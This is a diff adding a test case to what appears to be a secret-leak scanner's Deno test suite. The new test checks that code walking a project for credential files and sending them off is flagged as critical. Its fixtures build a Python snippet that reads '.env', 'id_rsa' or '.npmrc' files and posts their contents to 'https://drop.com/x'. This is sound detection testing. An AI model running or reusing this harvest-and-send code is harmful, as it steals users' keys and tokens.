@@ -3782,3 +3782,21 @@ Deno.test("what find prints is the paths it found, a credential file's when its 
     [],
   );
 });
+
+Deno.test("a name tested against a credential file's (f.startswith('.env'), f == 'id_rsa') names that file inside the test: a walk's harvest is sent", () => {
+  const walk = (test: string, body: string) =>
+    `import os, requests\nfor root, dirs, files in os.walk('.'):\n    for f in files:\n        if ${test}:\n            ${body}\n`;
+  const send = "requests.post('https://drop.com/x', data=open(os.path.join(root, f)).read())";
+  for (const test of ["f.startswith('.env')", "f == 'id_rsa'", "f == '.npmrc'"]) {
+    assert.deepEqual(secretSeverities("scripts/a.py", walk(test, send)), ["critical"], test);
+  }
+  // A test of no credential file's name, or the same name after its block, names nothing.
+  assert.deepEqual(secretSeverities("scripts/a.py", walk("f.endswith('.md')", send)), []);
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${walk("f.startswith('.env')", "print(f)")}        ${send}\n`,
+    ),
+    [],
+  );
+});
